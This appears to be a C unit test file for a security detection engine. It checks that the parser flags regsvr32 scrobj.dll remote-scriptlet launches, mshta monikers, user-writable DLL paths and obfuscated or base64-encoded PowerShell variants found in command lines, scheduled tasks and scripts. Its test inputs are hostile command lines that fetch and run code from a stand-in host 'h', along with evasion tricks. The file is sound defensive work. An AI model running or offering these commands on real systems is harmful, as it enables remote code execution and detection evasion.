#include "tests/unit/derive/derived.h"

struct launch_case {
	const char *name, *image, *line, *want;
};

#define CMD    "C:\\Windows\\System32\\cmd.exe"
#define PS     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define LAUNCH "launch.carries="

/* clang-format off */
static struct launch_case cases[] = {
	{ "a URL behind cmd", CMD, "cmd /c regsvr32 /s /u /i:http://h/a.sct scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj\n"
	  "launch.command=regsvr32 /s /u /i:http://h/a.sct scrobj.dll" },
	{ "in quotes", CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c \"regsvr32.exe /s /i:https://h/a.sct scrobj.dll\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "carets in the name", CMD, "cmd /c r^e^gsvr32 /s /i:ht^tp://h/a.sct scr^obj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "quotes in the name", CMD, "cmd /c reg\"svr\"32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "backticks in the name", PS, "powershell -c reg`svr32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "a name of two texts", PS, "powershell -c & ('reg'+'svr32') /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "a name of two texts, with blanks", PS,
	  "powershell -c & ('reg' + \"svr32\") /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a list of arguments", PS,
	  "powershell Start-Process regsvr32 -ArgumentList '/s','/u','/i:http://h/a','scrobj.dll'",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "the name built of variables", CMD, "cmd /c \"set a=reg&set b=svr32&call %a%%b% /s /i:http://h/a scrobj.dll\"",
	  LAUNCH "url_scrobj|variable" },
	{ "the name built of a part of a variable", CMD, "cmd /c %COMSPEC:~-16,1%egsvr32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "url_scrobj|variable" },
	{ "arguments handed over", "C:\\Windows\\System32\\pcalua.exe",
	  "pcalua.exe -a regsvr32.exe -c \"/s /u /i:http://h/a.sct scrobj.dll\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a command for another machine's shell", "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
	  "sqlcmd -S db-3 -Q \"exec xp_cmdshell 'regsvr32 /s /i:http://h/a.sct scrobj.dll'\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a command within an option", "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
	  "ssh -o ProxyCommand=\"regsvr32 /s /u /i:http://h/a.sct scrobj.dll\" .", LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a command behind another text", "C:\\Windows\\System32\\SyncAppvPublishingServer.exe",
	  "SyncAppvPublishingServer.exe \"n;regsvr32 /s \\\\h\\s\\a.dll\"", LAUNCH "regsvr32|regsvr32_unc" },
	{ "a share", "C:\\Windows\\System32\\wbem\\WMIC.exe",
	  "wmic process call create \"regsvr32 /s \\\\h\\s\\a.dll\"", LAUNCH "regsvr32|regsvr32_unc" },
	{ "a path of the user", "C:\\Windows\\System32\\schtasks.exe",
	  "schtasks /create /tr \"regsvr32.exe -s \\\"C:\\Users\\b\\AppData\\Roaming\\a.dll\\\"\" /sc once",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a path of the user by PowerShell's name for it", PS,
	  "powershell regsvr32 /s $env:TEMP\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a path with blanks is not cut in two", CMD,
	  "cmd /c regsvr32 /s \"C:\\Program Files\\Vendor X\\app.dll\"", LAUNCH "regsvr32" },
	{ "a path with blanks and dots", CMD,
	  "cmd /c regsvr32 /s \"C:\\Program Files\\V\\..\\..\\ProgramData\\a.dll\"",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "another command behind it is not its argument", CMD,
	  "cmd /c regsvr32 /s C:\\Windows\\System32\\a.dll & del C:\\Users\\b\\AppData\\Local\\Temp\\x.txt",
	  LAUNCH "regsvr32" },
	{ "scrobj registered anew", CMD, "cmd /c regsvr32 /s scrobj.dll", LAUNCH "regsvr32" },
	{ "a mention in a file's name", CMD, "cmd /c type regsvr32_scrobj_install.log", LAUNCH "-" },
	{ "a program of a like name", CMD, "cmd /c myregsvr32 /s /i:http://h/a", LAUNCH "-" },
	{ "a search", CMD, "cmd /c dir c:\\windows\\system32\\regsvr32.exe", LAUNCH "-" },
	{ "an editor", "C:\\Windows\\System32\\notepad.exe",
	  "notepad regsvr32 /s /i:http://h/a scrobj.dll", LAUNCH "-" },
	{ "a moniker", "C:\\Windows\\System32\\mshta.exe",
	  "mshta javascript:a=GetObject(\"script:https://h/m.sct\").Exec();close();", LAUNCH "script_url" },
	{ "a variable of PowerShell is no moniker", PS, "powershell -c $script:httpclient = $script:files", LAUNCH "-" },
	{ "an address of JavaScript is no moniker", "C:\\Windows\\System32\\mshta.exe",
	  "mshta javascript:http://h/a", LAUNCH "-" },
	{ "the name behind its arguments", PS,
	  "powershell -c \"Start-Process -ArgumentList '/s /n /u /i:http://h/a.sct scrobj.dll' -FilePath regsvr32\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "the name by its path behind its arguments", PS,
	  "powershell saps -Arg:'/s','C:\\Users\\Public\\a.dll' -Verb runas C:\\Windows\\System32\\regsvr32.exe -Wait",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a share in a list of arguments before the name", PS,
	  "powershell saps -a @('\\\\h\\s\\a.dll') regsvr32", LAUNCH "regsvr32|regsvr32_unc" },
	{ "the name behind its arguments, by pcalua", "C:\\Windows\\System32\\pcalua.exe",
	  "pcalua.exe -c \"/s C:\\Users\\Public\\a.dll\" -a regsvr32.exe",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "arguments before a name, however they get there", PS,
	  "powershell $p.Arguments='/s /i:http://h/a.sct scrobj.dll'; $p.FileName='regsvr32'", LAUNCH "url_scrobj|variable" },
	{ "a mention switches nothing off", CMD,
	  "cmd /c rem regsvr32 is here & set a=regsvr& call %a%32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|url_scrobj|variable" },
	{ "what is given to another regsvr32 is not given to this one", CMD,
	  "cmd /c regsvr32 /s scrobj.dll & regsvr32 /n /i:U shell32.dll", LAUNCH "regsvr32" },
	{ "a log that is searched for the name", PS,
	  "powershell Select-String -Path C:\\ProgramData\\a.log -Pattern regsvr32", LAUNCH "-" },
	{ "the shell's own path is no argument", PS,
	  "C:\\Users\\b\\AppData\\pwsh.exe -c Start-Process -ArgumentList '/s a.dll' -FilePath regsvr32",
	  LAUNCH "regsvr32" },
	{ "behind nine other mentions", CMD,
	  "cmd /c rem regsvr32 & rem regsvr32 & rem regsvr32 & rem regsvr32 & rem regsvr32 & regsvr32 /s a.dll & "
	  "regsvr32 /s b.dll & rem regsvr32 & rem regsvr32 & regsvr32 /s C:\\Users\\Public\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "behind nine other i-switches", CMD,
	  "cmd /c regsvr32 /i:a /i:a /i:a /i:a /i:a /i:a /i:a /i:a /i:a /i:\\\\h\\s\\a.sct scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_unc|regsvr32_scrobj" },
	{ "a line end in a command line ends nothing", CMD,
	  "cmd /c regsvr32 /s \nC:\\Users\\Public\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "an encoded command", PS, "powershell -enc cgBlAGcAcwB2AHIAMwAyACAALwBzACAALwBpADoAaAB0AHQAcAA6AC8ALwBoAC8AYQAgAHMAYwByAG8AYgBqAC4AZABsAGwA",
	  LAUNCH "-\nencoded.command=regsvr32 /s /i:http://h/a scrobj.dll\nencoded.carries=regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "one within another", CMD, "cmd /c pwsh -e cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABjAGcAQgBsAEEARwBjAEEAYwB3AEIAMgBBAEgASQBBAE0AdwBBAHkAQQBDAEEAQQBMAHcAQgB6AEEAQwBBAEEATAB3AEIAcABBAEQAbwBBAGEAQQBCADAAQQBIAFEAQQBjAEEAQQA2AEEAQwA4AEEATAB3AEIAbwBBAEMAOABBAFkAUQBBAGcAQQBIAE0AQQBZAHcAQgB5AEEARwA4AEEAWQBnAEIAcQBBAEMANABBAFoAQQBCAHMAQQBHAHcAQQA=",
	  "encoded.carries=regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "one of a copy of PowerShell", "C:\\a\\PowerShell.exe", "x -e cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==", "encoded.command=regsvr32 a.dll\nencoded.carries=regsvr32" },
	{ "one for another program", CMD, "cmd /c x -enc cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==", "encoded.command=-\nencoded.carries=-" },
	{ "a line end in one", PS, "powershell -enc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAYQAuAGQAbABsAAoAJAB4ACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABiAA==", "encoded.command=regsvr32 /s a.dll|$x c:\\users\\public\\b\nencoded.carries=regsvr32" },
	{ "nothing of the kind", CMD, "cmd /c echo hello & dir /s /i", LAUNCH "-" },
};

static struct {
	const char *name;
	uint32_t field;
	const char *value, *want;
} stored[] = {
	{ "a task", SQ_F_TASK_CONTENT,
	  "<Task><Actions><Exec><Command>regsvr32.exe</Command><Arguments>/s /i:http://h/a scrobj.dll</Arguments>"
	  "</Exec></Actions></Task>", LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a task whose arguments hold entities", SQ_F_TASK_CONTENT,
	  "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task>\r\n<Command>cmd</Command>\r\n"
	  "<Arguments>/c &quot;regsvr32&quot; /s &#47;i:http:&#x2F;/h/a scrobj.dll</Arguments></Task>",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a task, escaped once more", SQ_F_TASK_CONTENT,
	  "&lt;Task&gt;&lt;Command&gt;regsvr32&lt;/Command&gt;&lt;Arguments&gt;/s c:\\programdata\\a.dll"
	  "&lt;/Arguments&gt;&lt;/Task&gt;", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a task with its arguments first", SQ_F_TASK_CONTENT,
	  "<Task><Actions><Exec><Arguments>/s C:\\Users\\Public\\a.dll</Arguments><Command>regsvr32.exe</Command>"
	  "</Exec></Actions></Task>", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a task with CDATA", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command><![CDATA[regsvr32]]></Command><Arguments><![CDATA[/s C:\\Users\\Public\\a.dll]]>"
	  "</Arguments></Exec></Task>", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a task with a comment in a name", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>regs<!-- > -->vr32</Command><Arguments>/s <!-- -->C:\\Users\\Public\\a.dll"
	  "</Arguments></Exec></Task>", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a task with two actions", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>regsvr32</Command><Arguments>/s \"C:\\Program Files\\a.dll\"</Arguments></Exec>"
	  "<Exec><Command>C:\\ProgramData\\a.exe</Command></Exec></Task>", LAUNCH "regsvr32" },
	{ "a task that breaks off", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>regsvr32</Command><Arguments>/s C:\\Users\\Public\\a.dll<", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a tag parts what stands around it", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>regs<b/>vr32</Command><Arguments>/s C:\\Users\\Public\\a.dll</Arguments></Exec></Task>",
	  LAUNCH "-\nstored.command=regs vr32 /s c:\\users\\public\\a.dll" },
	{ "the commands of a task alone", SQ_F_TASK_CONTENT_NEW,
	  "<Task><RegistrationInfo><Description>mshta http://h</Description></RegistrationInfo><Actions>"
	  "<Exec><Command>c:\\a.exe</Command></Exec><ComHandler><Data>x</Data></ComHandler>"
	  "<Exec><Arguments>&quot;http://h/a?b&amp;c&quot;</Arguments><Command>MS^HTA</Command></Exec></Actions></Task>",
	  "stored.command=c:\\a.exe|mshta http://h/a?b&c" },
	{ "a task without an action", SQ_F_TASK_CONTENT,
	  "<Task><Command>mshta</Command><Arguments>http://h/a</Arguments></Task>",
	  "stored.command=mshta http://h/a" },
	{ "a task that breaks off in an action", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>mshta</Command><Arguments>http://h/a<", "stored.command=mshta http://h/a" },
	{ "another task", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>\"C:\\Program Files\\V\\update.exe\"</Command></Exec></Task>", LAUNCH "-" },
	{ "a service", SQ_F_SERVICE_FILE_NAME, "C:\\Windows\\System32\\regsvr32.exe /s C:\\ProgramData\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a script", SQ_F_SCRIPT_BLOCK_TEXT, ".\\regsvr32.exe /s /n /u /i:http://h:8444/l.sct scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a lawful script", SQ_F_SCRIPT_BLOCK_TEXT, "& regsvr32 /s 'C:\\Program Files\\V\\app.dll'",
	  LAUNCH "regsvr32" },
	{ "a script that copies behind it", SQ_F_SCRIPT_BLOCK_TEXT,
	  "regsvr32 /s \"C:\\Program Files\\V\\a.dll\"\nCopy-Item a.log C:\\ProgramData\\a.log", LAUNCH "regsvr32" },
	{ "the same with CR", SQ_F_SCRIPT_BLOCK_TEXT,
	  "regsvr32 /s \"C:\\Program Files\\V\\a.dll\"\r\nCopy-Item a.log C:\\ProgramData\\a.log", LAUNCH "regsvr32" },
	{ "a comment names it", SQ_F_SCRIPT_BLOCK_TEXT,
	  "# it's regsvr32 for all\n$log=\"$env:TEMP\\x.log\"", LAUNCH "regsvr32" },
	{ "a comment of lines names it", SQ_F_SCRIPT_BLOCK_TEXT,
	  "<# it's\n (regsvr32 #>\nregsvr32 /s a.dll\n$log=\"$env:TEMP\\x.log\"", LAUNCH "regsvr32" },
	{ "in a function", SQ_F_SCRIPT_BLOCK_TEXT,
	  "function r($f) {\n & regsvr32.exe /s $f\n}\nInvoke-WebRequest https://v/x -OutFile \"$env:TEMP\\x\"",
	  LAUNCH "regsvr32" },
	{ "scrobj registered anew, and a variable", SQ_F_SCRIPT_BLOCK_TEXT,
	  "regsvr32 /s scrobj.dll\n$x = 1", LAUNCH "regsvr32" },
	{ "a script that registers all anew", SQ_F_SCRIPT_BLOCK_TEXT,
	  "Stop-Service -Name wuauserv -Force\nRemove-Item $env:SystemRoot\\a.log\nregsvr32.exe /s scrobj.dll\n"
	  "regsvr32.exe /s /n /i:U shell32.dll\nsaps regsvr32 -NoNewWindow -Args '/s scrobj.dll'", LAUNCH "regsvr32" },
	{ "arguments of variables", SQ_F_SCRIPT_BLOCK_TEXT,
	  "$s = 'scrobj.dll'\n$c = ':http'\n& $r /s /n \"/i$c\" $s", LAUNCH "variable" },
	{ "a line that goes on behind a backtick", SQ_F_SCRIPT_BLOCK_TEXT,
	  "regsvr32 /s `\r\n C:\\Users\\Public\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line that goes on behind a caret", SQ_F_SCRIPT_BLOCK_TEXT,
	  "regsvr32 /s ^\n C:\\Users\\Public\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line that goes on behind a comma", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 '/s', # so\n 'C:\\Users\\Public\\a.dll'", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line end within a text", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 \"/s `\"\n C:\\Users\\Public\\a.dll\"", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line end within a text of curly quotes", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 \u201c/s\n C:\\Users\\Public\\a.dll\u201d", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line end within a here-string", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 @'\n/s\n'C:\\Users\\Public\\a.dll\n'@", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "behind a here-string", SQ_F_SCRIPT_BLOCK_TEXT,
	  "$a = @\"\n it's \"so\"\n\"@\nregsvr32 /s a.dll\ndel $env:TEMP\\x", LAUNCH "regsvr32" },
	{ "a line end within brackets", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 @(\n'/s'\n'C:\\Users\\Public\\a.dll')", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a line end within a hash table", SQ_F_SCRIPT_BLOCK_TEXT,
	  "$a = @{ FilePath = 'regsvr32'\n ArgumentList = 'C:\\Users\\Public\\a.dll' }",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "another drive", SQ_F_IMAGE_PATH, "regsvr32 /s E:\\a.dll", LAUNCH "regsvr32|regsvr32_odd_drive" },
	{ "a share of this machine", SQ_F_IMAGE_PATH, "regsvr32 /s \\\\localhost\\share\\a.dll", LAUNCH "regsvr32|regsvr32_odd_drive" },
	{ "a second disk", SQ_F_IMAGE_PATH, "regsvr32 /s D:\\App\\a.dll", LAUNCH "regsvr32" },
	{ "a picture in a folder of somebody's", SQ_F_IMAGE_PATH, "regsvr32 /s C:\\Tools\\a.jpg", LAUNCH "regsvr32|regsvr32_odd_file" },
	{ "an installed file of an odd name", SQ_F_IMAGE_PATH, "regsvr32 /s \"C:\\Program Files\\V\\a.png\"", LAUNCH "regsvr32" },
	{ "a library in a folder of somebody's", SQ_F_IMAGE_PATH, "regsvr32 /s C:\\Tools\\a.dll", LAUNCH "regsvr32" },
	{ "a picture", SQ_F_IMAGE_PATH, "regsvr32 /s /i:calc a.jpg", LAUNCH "regsvr32|regsvr32_odd_file" },
	{ "a picture in a script", SQ_F_SCRIPT_BLOCK_TEXT, "saps regsvr32 -Args '/s','.\\a.jpg' -Wait", LAUNCH "regsvr32|regsvr32_odd_file" },
	{ "a bare name", SQ_F_IMAGE_PATH, "regsvr32.exe /s evil", LAUNCH "regsvr32|regsvr32_odd_file" },
	{ "a bare name of the system's", SQ_F_IMAGE_PATH, "regsvr32.exe /s shell32", LAUNCH "regsvr32" },
	{ "a placeholder", SQ_F_DETAILS, "regsvr32.exe /s %1", LAUNCH "regsvr32" },
	{ "a sentence", SQ_F_SCRIPT_BLOCK_TEXT, "# regsvr32 writes setup.log, silently /s so", LAUNCH "regsvr32" },
	{ "a search", SQ_F_SCRIPT_BLOCK_TEXT, "sls regsvr32 setup.log; findstr regsvr32 /s *.log", LAUNCH "regsvr32" },
	{ "a document's name", SQ_F_DETAILS, "E:\\Documents\\regsvr32 guide.docx", LAUNCH "regsvr32" },
	{ "what PowerShell writes to", SQ_F_SCRIPT_BLOCK_TEXT,
	  "saps regsvr32 -RedirectStandardOutput out.txt -Verb runas -Args '/s a.dll'", LAUNCH "regsvr32" },
	{ "up and down again", SQ_F_IMAGE_PATH, "cmd /c start regsvr32 -s ..\\..\\Users\\Public\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a library of a sibling folder", SQ_F_SCRIPT_BLOCK_TEXT, "regsvr32 /s ..\\bin\\a.dll", LAUNCH "regsvr32" },
	{ "from the root of the drive", SQ_F_IMAGE_PATH, "regsvr32 /s \\Users\\Public\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a variable in braces", SQ_F_SCRIPT_BLOCK_TEXT, "regsvr32 /s ${env:TEMP}\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "the home folder", SQ_F_SCRIPT_BLOCK_TEXT, "regsvr32 /s $HOME\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "the home folder, in short", SQ_F_SCRIPT_BLOCK_TEXT, "regsvr32 /s ~\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a path behind an escaped quote", SQ_F_IMAGE_PATH, "cmd /c \"regsvr32 /s \\\"C:\\Program Files\\V\\a.dll\\\"\"", LAUNCH "regsvr32" },
	{ "a registration of scrobj", SQ_F_DETAILS, "%SystemRoot%\\SysWOW64\\ScrObj.dll", LAUNCH "scrobj" },
	{ "a number", SQ_F_DETAILS, "DWORD (0x00000001)", LAUNCH "-\nstored.command=-" },
	{ "a value", SQ_F_DETAILS, "PowerShell  -c \"& ('ie'+'x') $a\"", "stored.command=powershell -c & (iex) $a" },
	{ "a value with an encoded command", SQ_F_DETAILS, "cmd /c powershell -e cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==",
	  "encoded.command=regsvr32 a.dll\nencoded.carries=regsvr32" },
	{ "a task with one", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>powershell</Command><Arguments>-e &quot;cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==&quot;</Arguments></Exec></Task>",
	  "encoded.carries=regsvr32" },
	{ "a script that has one", SQ_F_SCRIPT_BLOCK_TEXT, "powershell -e cgBlAGcAcwB2AHIAMwAyACAAYQAuAGQAbABsAA==", "encoded.command=-" },
	{ "a script is no stored command", SQ_F_SCRIPT_BLOCK_TEXT, "mshta http://h/a", "stored.command=-" },
	{ "what WMI logs of a consumer", SQ_F_POSSIBLE_CAUSE,
	  "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"regsvr32 /s C:\\\\ProgramData\\\\a.dll\";\n};\n",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
};
/* clang-format on */

static void check_launch(void **state)
{
	const struct launch_case *tc = *state;
	struct derived d;

	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, tc->image);
	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, tc->want), "");
	derived_fini(&d);
}

static void stored_commands_are_read_too(void **state)
{
	(void)state;
	for (size_t i = 0; i < SQ_LEN(stored); i++) {
		struct derived d;

		print_message("%s\n", stored[i].name);
		derived_init(&d);
		d.ev.category = SQ_CATEGORY_NONE;
		derived_put(&d, stored[i].field, stored[i].value);
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		assert_string_equal(derived_wrong(&d, stored[i].want), "");
		derived_fini(&d);
	}
}

int main(void)
{
	const struct CMUnitTest others[] = { cmocka_unit_test(stored_commands_are_read_too) };

	return RUN_TABLE("derive/launch", cases, check_launch) +
	       cmocka_run_group_tests_name("derive/launch stored", others, NULL, NULL);
}
